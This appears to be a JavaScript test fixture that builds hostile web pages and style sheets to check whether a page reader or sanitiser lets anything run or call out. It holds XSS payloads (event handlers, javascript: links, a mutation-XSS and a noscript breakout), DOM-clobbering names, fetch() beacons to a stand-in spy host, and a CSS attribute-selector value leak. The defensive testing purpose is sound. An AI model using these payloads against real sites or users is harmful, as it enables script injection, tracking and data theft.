// A site that tries everything: whatever it gets done, it tells to a spy or leaves a mark on the page around it.

/** Everything that runs, calls out or leads away, with `spy` as the address to tell. */
export function tricks(spy) {
    const tell = (what) => `top.huskOwned='${what}';top.document.title='owned';fetch('${spy}/${what}')`;
    return `
<base href="${spy}/base/">
<meta http-equiv="refresh" content="1; url=${spy}/refresh">
<link rel="stylesheet" href="${spy}/sheet.css"><link rel="icon" href="${spy}/icon"><link rel="preload" as="image" href="${spy}/preload">
<style>@import "${spy}/import.css"; @font-face { font-family: spy; src: url("${spy}/font") }
  body { background: url("${spy}/background"); font-family: spy } .bait::before { content: url("${spy}/content") }
  .bait { list-style-image: url("${spy}/list"); cursor: url("${spy}/cursor"), auto }</style>
<script>${tell("script")}</script><script src="${spy}/script.js"></script><script type="module">${tell("module")}</script>
<img src="${spy}/picture" srcset="${spy}/larger 2x" onerror="${tell("onerror")}" alt="">
<picture><source srcset="${spy}/source"><img alt=""></picture><video poster="${spy}/poster" src="${spy}/video" autoplay></video>
<audio src="${spy}/audio" autoplay></audio><input type="image" src="${spy}/input" alt="">
<svg width="10" height="10" onload="${tell("onload")}"><script>${tell("svg")}</script><image href="${spy}/svg-image" />
  <animate attributeName="x" onbegin="${tell("onbegin")}" /><use href="${spy}/use.svg#a" /></svg>
<iframe src="${spy}/frame"></iframe><iframe srcdoc="&lt;script&gt;top.huskOwned='srcdoc'&lt;/script&gt;"></iframe>
<object data="${spy}/object"></object><embed src="${spy}/embed"><details open ontoggle="${tell("ontoggle")}"></details>
<form action="${spy}/form" name="querySelectorAll" target="_top"><input name="body"><input name="getAttribute" autofocus onfocus="${tell("onfocus")}">
  <button style="display:block;width:100%;height:60px">Send</button></form>
<form name="documentElement"><input name="parentNode"></form><img name="contentDocument" alt=""><a id="elementFromPoint"></a>
<a class="bait" href="javascript:${tell("javascript")}" style="display:block;height:120px">Read on</a>
<a href="${spy}/top" target="_top" ping="${spy}/ping">Up</a>
<math><mtext><table><mglyph><style><img src=x onerror="${tell("mutation")}"></style></mglyph></table></mtext></math>
<noscript><p title="</noscript><img src=x onerror=${tell("noscript")}>"></noscript>`;
}

const NAMES = ["news", "bread", "salt", "smoke", "harbour", "weather"];

/** A page of a site whose every page has the same frame, the tricks in it and in what it says. */
export function hostilePage(name, spy) {
    const links = NAMES.map((other) => `<li><a href="/${other}">${other}</a></li>`).join("");
    const said = `Of ${name} there is a lot to say, and people say it when they meet by the ${name}.`;
    // Its base would lead the links astray.
    const own = tricks(spy).replace(/<base[^>]*>/, "");
    return `<!doctype html><html><head><title>Hostile ${name}</title></head><body>
<header><p>The hostile paper</p><nav><ul>${links}</ul></nav>${own}</header>
<main><h1>All about ${name}</h1><p>${said}</p>${own}<p>More of ${name} tomorrow, if nothing comes between.</p></main>
<footer><p>Do not trust what is printed here.</p></footer></body></html>`;
}

/** Five megabytes of tables, each in the one before; with a menu, so that there is something to compare. */
export function nestedPage(name) {
    const links = NAMES.map((other) => `<li><a href="/${other}">${other}</a></li>`).join("");
    const piece = "<table><tr><td>";
    const tables = piece.repeat(Math.ceil((5 * 1024 * 1024) / piece.length));
    return `<!doctype html><title>Nested ${name}</title><nav><ul>${links}</ul></nav><h1>All about ${name}</h1>
<p>Of ${name} there is a lot to say.</p>${name === NAMES[0] ? tables : piece.repeat(50)}<p>At last, ${name}.`;
}

/** Has a site answer by such pages. */
export function pagesBy(site, write) {
    site.fault = ({ path }) => {
        const name = path.slice(1);
        if (!NAMES.includes(name)) return { status: 404 };
        return { headers: { "Content-Type": "text/html; charset=utf-8" }, body: write(name) };
    };
}

/** Has a site answer by style sheets that call out to it. */
export function sheetsBy(site) {
    const sheet = (path) => `@import "${path}/deeper.css"; @import url(//localhost:1/imported.css);
.hostile-sheet, body { background: url(${site.origin}${path}/background) !important; cursor: url("${path}/cursor"), auto }
@font-face { font-family: spy; src: url(${site.origin}${path}/font) } * { font-family: spy !important }
.bait { list-style-image: url(${path}/list); behavior: url(${path}/behavior); -moz-binding: url(${path}/binding) }
input[value^="a"] { background: url(${site.origin}${path}/value-a) } p::after { content: url(${path}/content) }
</style><script>top.huskOwned="sheet"</script>`;
    site.fault = ({ path }) => {
        if (!path.startsWith("/sheet.css")) return { status: 404 };
        const isDeepest = path.endsWith("deeper.css");
        return { headers: { "Content-Type": "text/css" }, body: isDeepest ? "p{color:red}" : sheet(path) };
    };
}
